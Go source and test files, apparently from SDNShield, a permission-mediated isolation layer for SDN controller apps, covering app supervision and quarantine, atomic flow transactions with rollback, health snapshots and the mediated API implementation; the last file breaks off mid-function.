	if err := env.shield.Launch(flappy); err != nil {
		t.Fatal(err)
	}
	if err := env.shield.Launch(steady); err != nil {
		t.Fatal(err)
	}

	c, ok := env.shield.Container("flappy")
	if !ok {
		t.Fatal("container missing")
	}
	// Keep generating packet-ins until the supervisor gives up on the
	// app. Each delivered event panics; the supervisor restarts it twice
	// (strikes 1 and 2) and quarantines on strike 3.
	h := env.built.Hosts[0]
	i := 0
	waitCond(t, 5*time.Second, "quarantine", func() bool {
		i++
		h.Send(of.NewARPRequest(h.MAC(), h.IP(), of.IPv4(i)))
		hlth, _ := env.shield.AppHealth("flappy")
		return hlth == Quarantined
	})

	if c.Restarts() < 1 {
		t.Errorf("restarts = %d, want >= 1", c.Restarts())
	}
	if inits.Load() < 2 {
		t.Errorf("init ran %d times, want >= 2 (launch + restart)", inits.Load())
	}
	if c.Panics() < 3 {
		t.Errorf("panics = %d, want >= 3", c.Panics())
	}

	// The quarantined app's API handle is dead.
	if _, err := flappyAPI.SwitchStats(1); !errors.Is(err, ErrAppQuarantined) {
		t.Errorf("quarantined API err = %v, want ErrAppQuarantined", err)
	}

	// The healthy app is unaffected: events still arrive and its API
	// still answers.
	before := steadySeen.Load()
	h.Send(of.NewARPRequest(h.MAC(), h.IP(), of.IPv4(9999)))
	waitCond(t, 2*time.Second, "steady app delivery", func() bool {
		return steadySeen.Load() > before
	})
	if _, err := steadyAPI.SwitchStats(1); err != nil {
		t.Errorf("healthy app's API broken: %v", err)
	}
	if hlth, _ := env.shield.AppHealth("steady"); hlth != Running {
		t.Errorf("steady health = %v, want running", hlth)
	}
}

// TestSupervisorRecoversOneOffPanic: a single panic restarts the app and
// it returns to Running with its subscriptions rebuilt.
func TestSupervisorRecoversOneOffPanic(t *testing.T) {
	env := newEnvCfg(t, 1, Config{
		KSDWorkers:     2,
		EventQueueSize: 64,
		RestartBackoff: time.Millisecond,
		PanicLimit:     5,
		PanicWindow:    time.Minute,
	})
	grant(t, env.shield, "oneoff", "PERM pkt_in_event")

	var seen atomic.Uint64
	var bomb atomic.Bool
	bomb.Store(true)
	oneoff := app("oneoff", func(a API) error {
		return a.Subscribe(controller.EventPacketIn, func(controller.Event) {
			if bomb.Swap(false) {
				panic("one-off boom")
			}
			seen.Add(1)
		})
	})
	if err := env.shield.Launch(oneoff); err != nil {
		t.Fatal(err)
	}

	h := env.built.Hosts[0]
	h.Send(of.NewARPRequest(h.MAC(), h.IP(), 1))
	c, _ := env.shield.Container("oneoff")
	waitCond(t, 2*time.Second, "restart", func() bool {
		return c.Restarts() >= 1 && c.Health() == Running
	})
	// Post-restart the rebuilt subscription delivers normally.
	i := 0
	waitCond(t, 2*time.Second, "post-restart delivery", func() bool {
		i++
		h.Send(of.NewARPRequest(h.MAC(), h.IP(), of.IPv4(100+i)))
		return seen.Load() > 0
	})
	if hlth, _ := env.shield.AppHealth("oneoff"); hlth != Running {
		t.Errorf("health = %v, want running", hlth)
	}
}

// TestKSDSurvivesPanicInMediatedCall: a panic inside the closure a deputy
// runs must surface as an error to the caller, be counted on the engine,
// and leave the KSD pool fully operational.
func TestKSDSurvivesPanicInMediatedCall(t *testing.T) {
	env := newEnv(t, 1)
	err := env.shield.do(nil, newMediatedOp("test_panic"), 0, func() error { panic("kaboom") })
	if err == nil || !strings.Contains(err.Error(), "panic in mediated API call") {
		t.Fatalf("err = %v, want mediated-call panic error", err)
	}
	if n := env.shield.Engine().APIPanics(); n != 1 {
		t.Errorf("APIPanics = %d, want 1", n)
	}
	// The pool still serves requests — every worker, not just one.
	for i := 0; i < 8; i++ {
		if err := env.shield.do(nil, newMediatedOp("test_noop"), 0, func() error { return nil }); err != nil {
			t.Fatalf("KSD pool broken after panic: %v", err)
		}
	}
}

// TestHealthStrings pins the state names used in logs and dashboards.
func TestHealthStrings(t *testing.T) {
	want := map[Health]string{
		Running: "running", Restarting: "restarting",
		Quarantined: "quarantined", Stopped: "stopped", Health(99): "health(?)",
	}
	for h, s := range want {
		if h.String() != s {
			t.Errorf("%d.String() = %q, want %q", h, h.String(), s)
		}
	}
}
