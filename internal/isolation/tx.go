package isolation

import (
	"errors"

	"sdnshield/internal/controller"
	"sdnshield/internal/flowtable"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
)

// switchGone reports an error meaning the target switch no longer has a
// session: its rules died with it, so there is no state left to revert.
// Rollback treats these as success rather than failing the whole undo.
func switchGone(err error) bool {
	return errors.Is(err, controller.ErrUnknownSwitch) ||
		errors.Is(err, controller.ErrSwitchDisconnected)
}

// prechecker is implemented by API variants that can check a call without
// executing it; the transaction uses it to validate every call before the
// first effect (§VI-B2). The monolithic API has no checks, so its
// transactions only provide atomic rollback.
type prechecker interface {
	checkInsertFlow(corr uint64, dpid of.DPID, spec controller.FlowSpec) error
	checkDeleteFlow(corr uint64, dpid of.DPID, match *of.Match, priority uint16) error
}

// Tx is an atomic group of flow operations. Build it with the fluent
// Insert/Delete methods and Commit once; the entire group executes only
// if every call passes permission checking, and a mid-apply failure rolls
// back the already-applied prefix.
type Tx struct {
	api   API
	inner permengine.Tx
	corr  uint64
}

// ensureOrigin mints the transaction's correlation ID on the first
// planned call and attributes the inner transaction's commit/abort/
// rollback audit events to the owning app. The prechecks carry the same
// ID, so a tx abort and the denial that caused it correlate.
func (t *Tx) ensureOrigin() uint64 {
	if t.corr == 0 {
		t.corr = audit.NextCorr()
		t.inner.SetOrigin(t.api.AppName(), t.corr)
	}
	return t.corr
}

// InsertFlow plans a flow insertion.
func (t *Tx) InsertFlow(dpid of.DPID, spec controller.FlowSpec) *Tx {
	corr := t.ensureOrigin()
	var check func() error
	if pc, ok := t.api.(prechecker); ok {
		check = func() error { return pc.checkInsertFlow(corr, dpid, spec) }
	}
	t.inner.Add(permengine.PlannedCall{
		Call:  txDesc{fmt: "insert-flow"},
		Check: check,
		Apply: func() error { return t.api.InsertFlow(dpid, spec) },
		Revert: func() error {
			if err := t.api.DeleteFlow(dpid, spec.Match, spec.Priority, true); err != nil && !switchGone(err) {
				return err
			}
			return nil
		},
	})
	return t
}

// DeleteFlow plans a flow deletion. On rollback the removed rules (as
// visible to the app) are reinstalled.
func (t *Tx) DeleteFlow(dpid of.DPID, match *of.Match, priority uint16, strict bool) *Tx {
	corr := t.ensureOrigin()
	var check func() error
	if pc, ok := t.api.(prechecker); ok {
		check = func() error { return pc.checkDeleteFlow(corr, dpid, match, priority) }
	}
	var removed []*flowtable.Entry
	t.inner.Add(permengine.PlannedCall{
		Call:  txDesc{fmt: "delete-flow"},
		Check: check,
		Apply: func() error {
			entries, err := t.api.Flows(dpid, match)
			if err == nil {
				for _, e := range entries {
					if !strict || e.Priority == priority {
						removed = append(removed, e)
					}
				}
			}
			return t.api.DeleteFlow(dpid, match, priority, strict)
		},
		Revert: func() error {
			for _, e := range removed {
				err := t.api.InsertFlow(dpid, controller.FlowSpec{
					Match: e.Match, Priority: e.Priority, Actions: e.Actions,
					IdleTimeout: e.IdleTimeout, HardTimeout: e.HardTimeout,
					Cookie: e.Cookie,
				})
				if err != nil {
					if switchGone(err) {
						return nil
					}
					return err
				}
			}
			return nil
		},
	})
	return t
}

// SendPacketOut plans a packet injection. Packet-outs cannot be undone;
// place them last so a rollback never needs to revert one.
func (t *Tx) SendPacketOut(dpid of.DPID, bufferID uint32, inPort uint16, actions []of.Action, pkt *of.Packet) *Tx {
	t.ensureOrigin()
	t.inner.Add(permengine.PlannedCall{
		Call:  txDesc{fmt: "packet-out"},
		Apply: func() error { return t.api.SendPacketOut(dpid, bufferID, inPort, actions, pkt) },
	})
	return t
}

// Len returns the number of planned calls.
func (t *Tx) Len() int { return t.inner.Len() }

// Commit checks all calls, then applies them atomically.
func (t *Tx) Commit() error { return t.inner.Commit() }

type txDesc struct{ fmt string }

func (d txDesc) String() string { return d.fmt }
