package isolation

import (
	"errors"

	"sdnshield/internal/controller"
	"sdnshield/internal/flowtable"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
)

// switchGone reports an error meaning the target switch no longer has a
// session: its rules died with it, so there is no state left to revert.
// Rollback treats these as success rather than failing the whole undo.
func switchGone(err error) bool {
	return errors.Is(err, controller.ErrUnknownSwitch) ||
		errors.Is(err, controller.ErrSwitchDisconnected)
}

// prechecker is implemented by API variants that can check a call without
// executing it; the transaction uses it to validate every call before the
// first effect (§VI-B2). The monolithic API has no checks, so its
// transactions only provide atomic rollback.
type prechecker interface {
	checkInsertFlow(dpid of.DPID, spec controller.FlowSpec) error
	checkDeleteFlow(dpid of.DPID, match *of.Match, priority uint16) error
}

// Tx is an atomic group of flow operations. Build it with the fluent
// Insert/Delete methods and Commit once; the entire group executes only
// if every call passes permission checking, and a mid-apply failure rolls
// back the already-applied prefix.
type Tx struct {
	api   API
	inner permengine.Tx
}

// InsertFlow plans a flow insertion.
func (t *Tx) InsertFlow(dpid of.DPID, spec controller.FlowSpec) *Tx {
	var check func() error
	if pc, ok := t.api.(prechecker); ok {
		check = func() error { return pc.checkInsertFlow(dpid, spec) }
	}
	t.inner.Add(permengine.PlannedCall{
		Call:  txDesc{fmt: "insert-flow"},
		Check: check,
		Apply: func() error { return t.api.InsertFlow(dpid, spec) },
		Revert: func() error {
			if err := t.api.DeleteFlow(dpid, spec.Match, spec.Priority, true); err != nil && !switchGone(err) {
				return err
			}
			return nil
		},
	})
	return t
}

// DeleteFlow plans a flow deletion. On rollback the removed rules (as
// visible to the app) are reinstalled.
func (t *Tx) DeleteFlow(dpid of.DPID, match *of.Match, priority uint16, strict bool) *Tx {
	var check func() error
	if pc, ok := t.api.(prechecker); ok {
		check = func() error { return pc.checkDeleteFlow(dpid, match, priority) }
	}
	var removed []*flowtable.Entry
	t.inner.Add(permengine.PlannedCall{
		Call:  txDesc{fmt: "delete-flow"},
		Check: check,
		Apply: func() error {
			entries, err := t.api.Flows(dpid, match)
			if err == nil {
				for _, e := range entries {
					if !strict || e.Priority == priority {
						removed = append(removed, e)
					}
				}
			}
			return t.api.DeleteFlow(dpid, match, priority, strict)
		},
		Revert: func() error {
			for _, e := range removed {
				err := t.api.InsertFlow(dpid, controller.FlowSpec{
					Match: e.Match, Priority: e.Priority, Actions: e.Actions,
					IdleTimeout: e.IdleTimeout, HardTimeout: e.HardTimeout,
					Cookie: e.Cookie,
				})
				if err != nil {
					if switchGone(err) {
						return nil
					}
					return err
				}
			}
			return nil
		},
	})
	return t
}

// SendPacketOut plans a packet injection. Packet-outs cannot be undone;
// place them last so a rollback never needs to revert one.
func (t *Tx) SendPacketOut(dpid of.DPID, bufferID uint32, inPort uint16, actions []of.Action, pkt *of.Packet) *Tx {
	t.inner.Add(permengine.PlannedCall{
		Call:  txDesc{fmt: "packet-out"},
		Apply: func() error { return t.api.SendPacketOut(dpid, bufferID, inPort, actions, pkt) },
	})
	return t
}

// Len returns the number of planned calls.
func (t *Tx) Len() int { return t.inner.Len() }

// Commit checks all calls, then applies them atomically.
func (t *Tx) Commit() error { return t.inner.Commit() }

type txDesc struct{ fmt string }

func (d txDesc) String() string { return d.fmt }
