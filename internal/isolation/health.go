package isolation

import (
	"sort"
	"strconv"
	"sync/atomic"

	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/recorder"
	"sdnshield/internal/permengine"
)

// AppHealthSnapshot is one container's state as reported by
// Shield.HealthSnapshot and the /health introspection endpoint.
type AppHealthSnapshot struct {
	App              string `json:"app"`
	State            string `json:"state"`
	Restarts         uint64 `json:"restarts"`
	Panics           uint64 `json:"panics"`
	DroppedEvents    uint64 `json:"dropped_events"`
	QuarantineReason string `json:"quarantine_reason,omitempty"`
	// DenialAnomaly is set while the denial-rate detector flags the app
	// as misbehaving (a sustained burst of permission denials).
	DenialAnomaly bool `json:"denial_anomaly,omitempty"`
	// DenialRate is the detector's smoothed denials-per-window estimate.
	DenialRate float64 `json:"denial_rate,omitempty"`
	// Usage is the app's live resource accounting (resources.go).
	Usage ResourceUsage `json:"usage"`
}

// HealthSnapshot is the shield-wide health view: the KSD pool plus every
// launched container.
type HealthSnapshot struct {
	Stopped    bool                `json:"stopped"`
	KSDWorkers int                 `json:"ksd_workers"`
	QueueDepth int                 `json:"queue_depth"`
	Apps       []AppHealthSnapshot `json:"apps"`
}

// HealthSnapshot aggregates per-container lifecycle state: health,
// restart/panic/dropped-event counts, the quarantine reason and the
// denial-rate anomaly verdict. Apps are sorted by name for stable output.
func (s *Shield) HealthSnapshot() HealthSnapshot {
	snap := HealthSnapshot{
		Stopped:    s.stopped.Load(),
		KSDWorkers: s.cfg.KSDWorkers,
		QueueDepth: len(s.reqCh),
	}
	s.mu.Lock()
	containers := make([]*Container, 0, len(s.containers))
	for _, c := range s.containers {
		containers = append(containers, c)
	}
	s.mu.Unlock()
	det := audit.DefaultDetector()
	for _, c := range containers {
		anomaly := det.Lookup(c.name)
		snap.Apps = append(snap.Apps, AppHealthSnapshot{
			App:              c.name,
			State:            c.Health().String(),
			Restarts:         c.Restarts(),
			Panics:           c.Panics(),
			DroppedEvents:    c.DroppedEvents(),
			QuarantineReason: c.QuarantineReason(),
			DenialAnomaly:    anomaly.Flagged,
			DenialRate:       anomaly.EWMA,
			Usage:            c.usage(),
		})
	}
	sort.Slice(snap.Apps, func(i, j int) bool { return snap.Apps[i].App < snap.Apps[j].App })
	return snap
}

// shieldSeq numbers shields within the process so each one's health
// provider gets a distinct name (benchmarks run baseline and shielded
// stacks side by side).
var shieldSeq atomic.Uint64

// registerHealth publishes the shield's health snapshot on the
// introspection endpoint and, when the forensic activity log is enabled,
// registers it as the /audit endpoint's synchronous fallback source; the
// returned function unregisters both at Stop.
func registerHealth(s *Shield) func() {
	name := "shield"
	if n := shieldSeq.Add(1); n > 1 {
		name = "shield-" + strconv.FormatUint(n, 10)
	}
	unregHealth := obs.RegisterHealth(name, func() interface{} { return s.HealthSnapshot() })
	unregUsage := recorder.RegisterUsage(name, func() interface{} { return s.UsageSnapshot() })
	unregEngine := permengine.RegisterEngine(name, s.engine)
	unregister := func() {
		unregEngine()
		unregUsage()
		unregHealth()
	}
	log := s.engine.Log()
	if log == nil {
		return unregister
	}
	unregFallback := audit.RegisterFallback(name, func(app string, deniesOnly bool) []audit.Event {
		recs := log.SnapshotFilter(app, deniesOnly)
		out := make([]audit.Event, 0, len(recs))
		for _, r := range recs {
			ev := audit.Event{
				Kind:    audit.KindPermission,
				Verdict: audit.VerdictAllow,
				Time:    r.Time,
				App:     r.App,
				Token:   r.Token.String(),
				Detail:  r.Detail,
			}
			if !r.Allowed {
				ev.Verdict = audit.VerdictDeny
			}
			out = append(out, ev)
		}
		return out
	})
	return func() {
		unregFallback()
		unregister()
	}
}
