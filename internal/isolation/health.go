package isolation

import (
	"sort"
	"strconv"
	"sync/atomic"

	"sdnshield/internal/obs"
)

// AppHealthSnapshot is one container's state as reported by
// Shield.HealthSnapshot and the /health introspection endpoint.
type AppHealthSnapshot struct {
	App              string `json:"app"`
	State            string `json:"state"`
	Restarts         uint64 `json:"restarts"`
	Panics           uint64 `json:"panics"`
	DroppedEvents    uint64 `json:"dropped_events"`
	QuarantineReason string `json:"quarantine_reason,omitempty"`
}

// HealthSnapshot is the shield-wide health view: the KSD pool plus every
// launched container.
type HealthSnapshot struct {
	Stopped    bool                `json:"stopped"`
	KSDWorkers int                 `json:"ksd_workers"`
	QueueDepth int                 `json:"queue_depth"`
	Apps       []AppHealthSnapshot `json:"apps"`
}

// HealthSnapshot aggregates per-container lifecycle state: health,
// restart/panic/dropped-event counts and the quarantine reason. Apps are
// sorted by name for stable output.
func (s *Shield) HealthSnapshot() HealthSnapshot {
	snap := HealthSnapshot{
		Stopped:    s.stopped.Load(),
		KSDWorkers: s.cfg.KSDWorkers,
		QueueDepth: len(s.reqCh),
	}
	s.mu.Lock()
	containers := make([]*Container, 0, len(s.containers))
	for _, c := range s.containers {
		containers = append(containers, c)
	}
	s.mu.Unlock()
	for _, c := range containers {
		snap.Apps = append(snap.Apps, AppHealthSnapshot{
			App:              c.name,
			State:            c.Health().String(),
			Restarts:         c.Restarts(),
			Panics:           c.Panics(),
			DroppedEvents:    c.DroppedEvents(),
			QuarantineReason: c.QuarantineReason(),
		})
	}
	sort.Slice(snap.Apps, func(i, j int) bool { return snap.Apps[i].App < snap.Apps[j].App })
	return snap
}

// shieldSeq numbers shields within the process so each one's health
// provider gets a distinct name (benchmarks run baseline and shielded
// stacks side by side).
var shieldSeq atomic.Uint64

// registerHealth publishes the shield's health snapshot on the
// introspection endpoint; the returned function unregisters it at Stop.
func registerHealth(s *Shield) func() {
	name := "shield"
	if n := shieldSeq.Add(1); n > 1 {
		name = "shield-" + strconv.FormatUint(n, 10)
	}
	return obs.RegisterHealth(name, func() interface{} { return s.HealthSnapshot() })
}
