// Package isolation implements SDNShield's controller isolation
// architecture (§VI-A) translated to Go: apps run in containers
// (goroutines standing in for the paper's sandboxed Java threads) holding
// only a mediated API handle; every controller API call crosses an
// inter-goroutine channel to a pool of Kernel Service Deputies (KSDs)
// that run the permission engine and execute the call on the app's
// behalf; simulated host-OS system calls are mediated by the same
// reference monitor (the SecurityManager role); and event notifications
// are permission-filtered before delivery.
//
// The package also provides the baseline monolithic runtime (direct
// in-goroutine calls, no checks) used as the comparison point in the
// paper's Figures 6–8.
package isolation

import (
	"sdnshield/internal/controller"
	"sdnshield/internal/core"
	"sdnshield/internal/flowtable"
	"sdnshield/internal/hostsim"
	"sdnshield/internal/of"
	"sdnshield/internal/topology"
)

// App is a controller application. Init is called once on the app's own
// container goroutine with its (mediated or direct) API handle; apps
// typically register event handlers and return.
type App interface {
	// Name returns the app's unique identity, the principal permission
	// checks run against.
	Name() string
	// Init configures the app: obtain services, install initial state,
	// register listeners.
	Init(api API) error
}

// API is the northbound surface apps program against. It is identical in
// both runtimes — legacy apps run unmodified under SDNShield (§VI-A), the
// property the paper's wrapper generation preserves.
type API interface {
	// AppName returns the caller's identity.
	AppName() string

	// --- flow table ---

	// InsertFlow installs a rule (insert_flow).
	InsertFlow(dpid of.DPID, spec controller.FlowSpec) error
	// ModifyFlow rewrites matching rules' actions (insert_flow per Table
	// II's "including insert and modify", or modify_flow when granted).
	ModifyFlow(dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error
	// DeleteFlow removes matching rules (delete_flow).
	DeleteFlow(dpid of.DPID, match *of.Match, priority uint16, strict bool) error
	// Flows reads the rules visible to the app (read_flow_table; entries
	// outside the app's filters are silently elided).
	Flows(dpid of.DPID, match *of.Match) ([]*flowtable.Entry, error)

	// --- packet I/O ---

	// SendPacketOut injects a packet (send_pkt_out; FROM_PKT_IN filters
	// require bufferID to reference a real packet-in and pkt to be nil).
	SendPacketOut(dpid of.DPID, bufferID uint32, inPort uint16, actions []of.Action, pkt *of.Packet) error

	// --- statistics ---

	// FlowStats reads per-flow counters (read_statistics, FLOW_LEVEL).
	FlowStats(dpid of.DPID, match *of.Match) ([]of.FlowStatsEntry, error)
	// PortStats reads per-port counters (read_statistics, PORT_LEVEL).
	PortStats(dpid of.DPID, port uint16) ([]of.PortStatsEntry, error)
	// SwitchStats reads switch aggregates (read_statistics, SWITCH_LEVEL).
	SwitchStats(dpid of.DPID) (of.SwitchStats, error)

	// --- topology ---

	// Switches lists the switches visible to the app (visible_topology).
	Switches() ([]topology.SwitchInfo, error)
	// Links lists the visible links (visible_topology).
	Links() ([]topology.Link, error)
	// Hosts lists hosts attached to visible switches (visible_topology).
	Hosts() ([]topology.Host, error)
	// AddLink edits the controller's topology view (modify_topology).
	AddLink(l topology.Link) error
	// RemoveLink edits the controller's topology view (modify_topology).
	RemoveLink(a, b of.DPID) error

	// --- model-driven data store ---

	// Publish writes a data-model node (write token of the path root).
	Publish(path string, value interface{}) error
	// ReadModel reads a data-model node (read token of the path root).
	ReadModel(path string) (interface{}, bool, error)

	// --- host system calls ---

	// HostConnect opens an outbound host-network connection
	// (host_network, filtered by IP_DST/TCP_DST).
	HostConnect(ip of.IPv4, port uint16) (*hostsim.Conn, error)
	// HostReadFile reads from the host filesystem (file_system).
	HostReadFile(path string) ([]byte, error)
	// HostWriteFile writes to the host filesystem (file_system).
	HostWriteFile(path string, data []byte) error
	// HostExec runs a host process (process_runtime).
	HostExec(cmd string) error

	// --- events ---

	// Subscribe registers an event handler. The kind's token is required;
	// each delivered event additionally passes the app's filters, and
	// packet-in payloads are stripped without read_payload.
	Subscribe(kind controller.EventKind, fn controller.Handler) error

	// --- utilities ---

	// HasPermission probes a token without side effects, so apps can
	// degrade gracefully instead of crashing on denials (§III).
	HasPermission(token core.Token) bool
	// Transaction opens an atomic API-call transaction (§VI-B2).
	Transaction() *Tx
}

// eventToken maps an event kind to the permission token guarding its
// delivery.
func eventToken(kind controller.EventKind) (core.Token, bool) {
	switch kind {
	case controller.EventPacketIn:
		return core.TokenPktInEvent, true
	case controller.EventFlowRemoved:
		return core.TokenFlowEvent, true
	case controller.EventPortStatus, controller.EventTopology:
		return core.TokenTopologyEvent, true
	case controller.EventError:
		return core.TokenErrorEvent, true
	case controller.EventDataModel:
		return core.TokenVisibleTopology, true
	default:
		return 0, false
	}
}
