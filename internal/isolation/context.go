package isolation

import (
	"fmt"

	"sdnshield/internal/controller"
	"sdnshield/internal/core"
	"sdnshield/internal/flowtable"
	"sdnshield/internal/hostsim"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/of"
	"sdnshield/internal/permengine"
	"sdnshield/internal/topology"
)

// modelTokens maps a data-model path root to the tokens required to read
// and write it. Unlisted roots fall back to the topology tokens, which is
// the conservative default for the model-driven northbound (§VIII:
// sensitive YANG nodes are associated with required permissions).
var modelTokens = map[string]struct{ read, write core.Token }{
	"topology": {read: core.TokenVisibleTopology, write: core.TokenModifyTopology},
	"alto":     {read: core.TokenVisibleTopology, write: core.TokenModifyTopology},
	"stats":    {read: core.TokenReadStatistics, write: core.TokenModifyTopology},
	"flows":    {read: core.TokenReadFlowTable, write: core.TokenInsertFlow},
}

func modelTokenFor(path string, write bool) core.Token {
	root := path
	for i := 0; i < len(path); i++ {
		if path[i] == '/' {
			root = path[:i]
			break
		}
	}
	entry, ok := modelTokens[root]
	if !ok {
		entry = struct{ read, write core.Token }{
			read: core.TokenVisibleTopology, write: core.TokenModifyTopology,
		}
	}
	if write {
		return entry.write
	}
	return entry.read
}

// shieldedAPI is the mediated API implementation: every method builds the
// permission-check view of the call and routes check + execution through
// the KSD pool.
type shieldedAPI struct {
	name      string
	shield    *Shield
	container *Container
	// virt is non-nil when the app's visible_topology carries a
	// single-big-switch filter; all topology-addressed calls are then
	// translated (§VI-B1).
	virt *translator
}

var _ API = (*shieldedAPI)(nil)

func newShieldedAPI(s *Shield, c *Container) *shieldedAPI {
	api := &shieldedAPI{name: c.name, shield: s, container: c}
	if set, ok := s.engine.Permissions(c.name); ok {
		if vf := findVirtFilter(set); vf != nil && vf.Mode() == core.VirtSingleBigSwitch {
			api.virt = newTranslator(s.kernel, c.name)
		}
	}
	return api
}

// findVirtFilter scans the visible_topology grant for a virtual-topology
// filter leaf.
func findVirtFilter(set *core.Set) *core.VirtTopoFilter {
	expr, ok := set.FilterFor(core.TokenVisibleTopology)
	if !ok {
		return nil
	}
	var found *core.VirtTopoFilter
	var walk func(e core.Expr)
	walk = func(e core.Expr) {
		switch v := e.(type) {
		case *core.Leaf:
			if vf, ok := v.F.(*core.VirtTopoFilter); ok && found == nil {
				found = vf
			}
		case *core.Not:
			walk(v.X)
		case *core.And:
			walk(v.L)
			walk(v.R)
		case *core.Or:
			walk(v.L)
			walk(v.R)
		}
	}
	walk(expr)
	return found
}

func (a *shieldedAPI) AppName() string { return a.name }

func (a *shieldedAPI) engine() *permengine.Engine { return a.shield.engine }

// do routes a call through the KSD pool after the lifecycle gate: a
// quarantined app's API handle is dead — every call fails fast without
// consuming a deputy. It mints the call's correlation ID here, at the
// mediated-call boundary, and hands it to fn so the permission check and
// every switch-side effect of this one call share it.
func (a *shieldedAPI) do(op *mediatedOp, fn func(corr uint64) error) error {
	if a.container != nil && a.container.Health() == Quarantined {
		mQuarantinedCalls.Inc()
		return fmt.Errorf("%w: %s", ErrAppQuarantined, a.name)
	}
	corr := audit.NextCorr()
	return a.shield.do(a.container, op, corr, func() error { return fn(corr) })
}

// apiValue is do for calls with results.
func apiValue[T any](a *shieldedAPI, op *mediatedOp, fn func(corr uint64) (T, error)) (T, error) {
	if a.container != nil && a.container.Health() == Quarantined {
		mQuarantinedCalls.Inc()
		var zero T
		return zero, fmt.Errorf("%w: %s", ErrAppQuarantined, a.name)
	}
	corr := audit.NextCorr()
	return doValue(a.shield, a.container, op, corr, func() (T, error) { return fn(corr) })
}

// foreignOwner finds the owner of a foreign flow the operation would
// affect: any rule overlapping the match whose owner differs from the
// caller and which the new rule could shadow (equal or lower priority).
// Returns "" when the operation only touches the app's own flow space.
func (a *shieldedAPI) foreignOwner(dpid of.DPID, match *of.Match, priority uint16) string {
	owner, _ := a.shield.kernel.ForeignFlowOwner(a.name, dpid, match, priority)
	return owner
}

// checkInsertFlow builds and checks the insert_flow call.
func (a *shieldedAPI) checkInsertFlow(corr uint64, dpid of.DPID, spec controller.FlowSpec) error {
	match := spec.Match
	if match == nil {
		match = of.NewMatch()
	}
	actions := spec.Actions
	if actions == nil {
		actions = []of.Action{}
	}
	call := &core.Call{
		App:          a.name,
		Token:        core.TokenInsertFlow,
		Corr:         corr,
		DPID:         dpid,
		HasDPID:      true,
		Match:        match,
		Actions:      actions,
		Priority:     spec.Priority,
		HasPriority:  true,
		FlowOwner:    a.foreignOwner(dpid, match, spec.Priority),
		HasFlowOwner: true,
		RuleCount:    a.shield.kernel.RuleCount(a.name, dpid),
		HasRuleCount: true,
	}
	return a.engine().Check(call)
}

func (a *shieldedAPI) InsertFlow(dpid of.DPID, spec controller.FlowSpec) error {
	return a.do(opInsertFlow, func(corr uint64) error {
		if a.virt != nil {
			return a.virt.insertFlow(a, corr, dpid, spec)
		}
		if err := a.checkInsertFlow(corr, dpid, spec); err != nil {
			return err
		}
		return a.shield.kernel.InsertFlowAs(controller.Origin{App: a.name, Corr: corr}, dpid, spec)
	})
}

// modifyToken returns the token guarding flow modification for this app:
// modify_flow when granted, otherwise insert_flow (Table II: insert_flow
// "including insert and modify").
func (a *shieldedAPI) modifyToken() core.Token {
	if a.engine().HasToken(a.name, core.TokenModifyFlow) {
		return core.TokenModifyFlow
	}
	return core.TokenInsertFlow
}

// checkAffected checks token against every existing rule the match
// subsumes, so a single call cannot touch another app's flows unnoticed.
func (a *shieldedAPI) checkAffected(corr uint64, token core.Token, dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
	if match == nil {
		match = of.NewMatch()
	}
	entries, err := a.shield.kernel.Flows(dpid, match)
	if err != nil {
		return err
	}
	if len(entries) == 0 {
		call := &core.Call{
			App: a.name, Token: token, Corr: corr, DPID: dpid, HasDPID: true,
			Match: match, Actions: actions,
			Priority: priority, HasPriority: true,
			HasFlowOwner: true,
		}
		return a.engine().Check(call)
	}
	for _, e := range entries {
		call := &core.Call{
			App: a.name, Token: token, Corr: corr, DPID: dpid, HasDPID: true,
			Match: e.Match, Actions: actions,
			Priority: e.Priority, HasPriority: true,
			FlowOwner: e.Owner, HasFlowOwner: true,
		}
		if call.Actions == nil {
			call.Actions = e.Actions
		}
		if err := a.engine().Check(call); err != nil {
			return err
		}
	}
	return nil
}

func (a *shieldedAPI) ModifyFlow(dpid of.DPID, match *of.Match, priority uint16, actions []of.Action) error {
	return a.do(opModifyFlow, func(corr uint64) error {
		if err := a.checkAffected(corr, a.modifyToken(), dpid, match, priority, actions); err != nil {
			return err
		}
		return a.shield.kernel.ModifyFlowAs(controller.Origin{App: a.name, Corr: corr}, dpid, match, priority, actions)
	})
}

func (a *shieldedAPI) checkDeleteFlow(corr uint64, dpid of.DPID, match *of.Match, priority uint16) error {
	return a.checkAffected(corr, core.TokenDeleteFlow, dpid, match, priority, nil)
}

// virtualDeleteCall builds the delete_flow check for the virtual view
// (translated deletes only ever touch the app's own physical rules).
func (a *shieldedAPI) virtualDeleteCall(corr uint64, match *of.Match, priority uint16) *core.Call {
	if match == nil {
		match = of.NewMatch()
	}
	return &core.Call{
		App: a.name, Token: core.TokenDeleteFlow, Corr: corr, DPID: bigSwitchDPID, HasDPID: true,
		Match: match, Priority: priority, HasPriority: true, HasFlowOwner: true,
	}
}

func (a *shieldedAPI) DeleteFlow(dpid of.DPID, match *of.Match, priority uint16, strict bool) error {
	return a.do(opDeleteFlow, func(corr uint64) error {
		if a.virt != nil {
			return a.virt.deleteFlow(a, corr, dpid, match, priority, strict)
		}
		if err := a.checkDeleteFlow(corr, dpid, match, priority); err != nil {
			return err
		}
		return a.shield.kernel.DeleteFlowAs(controller.Origin{App: a.name, Corr: corr}, dpid, match, priority, strict)
	})
}

func (a *shieldedAPI) Flows(dpid of.DPID, match *of.Match) ([]*flowtable.Entry, error) {
	return apiValue(a, opFlows, func(corr uint64) ([]*flowtable.Entry, error) {
		// Audit-visible check of the operation itself.
		opCall := &core.Call{
			App: a.name, Token: core.TokenReadFlowTable, Corr: corr, DPID: dpid, HasDPID: true,
			Match: match, HasFlowOwner: true,
		}
		if opCall.Match == nil {
			opCall.Match = of.NewMatch()
		}
		if !a.engine().HasToken(a.name, core.TokenReadFlowTable) {
			return nil, a.engine().Check(opCall)
		}
		entries, err := a.shield.kernel.Flows(dpid, match)
		if err != nil {
			return nil, err
		}
		// Per-entry visibility filtering (§IV-B: filters restrict apps'
		// visibility of flow table entries).
		set, _ := a.engine().Permissions(a.name)
		visible := entries[:0]
		for _, e := range entries {
			call := &core.Call{
				App: a.name, Token: core.TokenReadFlowTable, DPID: dpid, HasDPID: true,
